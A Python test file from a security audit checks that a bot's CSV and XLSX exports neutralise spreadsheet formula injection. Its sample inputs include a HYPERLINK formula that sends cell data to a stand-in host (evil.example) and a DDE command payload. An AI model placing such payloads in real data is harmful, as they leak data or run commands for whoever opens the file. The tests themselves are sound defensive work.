"""Security audit, exports: text customers typed cannot become spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

from bot.reports import export
from bot.reports.periods import this_month

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


def _data() -> export.ExportData:
    at = dt.datetime(2026, 11, 23, 10, 0, tzinfo=dt.UTC)
    row = [None] * len(export.EVENT_COLUMNS)
    events = []
    for n, text in enumerate(FORMULAS):
        values = list(row)
        values[export.EVENT_COLUMNS.index("event_id")] = n + 1
        values[export.EVENT_COLUMNS.index("event_time")] = at
        values[export.EVENT_COLUMNS.index("customer")] = text
        values[export.EVENT_COLUMNS.index("note")] = text
        values[export.EVENT_COLUMNS.index("minutes")] = -5  # a real number stays a number
        events.append(tuple(values))
    return export.ExportData(period=this_month(dt.date(2026, 11, 23)), events=events, tickets=[])


def test_csv_cells_never_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(export.to_csv(_data()).decode("utf-8-sig"))))
    customer, note, minutes = (export.EVENT_COLUMNS.index(c) for c in ("customer", "note", "minutes"))
    assert len(rows) == len(FORMULAS) + 1
    for row, typed in zip(rows[1:], FORMULAS, strict=True):
        for cell in (row[customer], row[note]):
            assert cell[0] not in "=+-@\t\r", cell
            assert typed.strip("\t\r") in cell  # the text itself is kept, shown literally
        assert row[minutes] == "-5"


def test_xlsx_cells_are_text_not_formulas() -> None:
    with zipfile.ZipFile(io.BytesIO(export.to_xlsx(_data()))) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and all("<f>" not in s and "<f " not in s for s in sheets)
    assert any("HYPERLINK" in s for s in sheets)
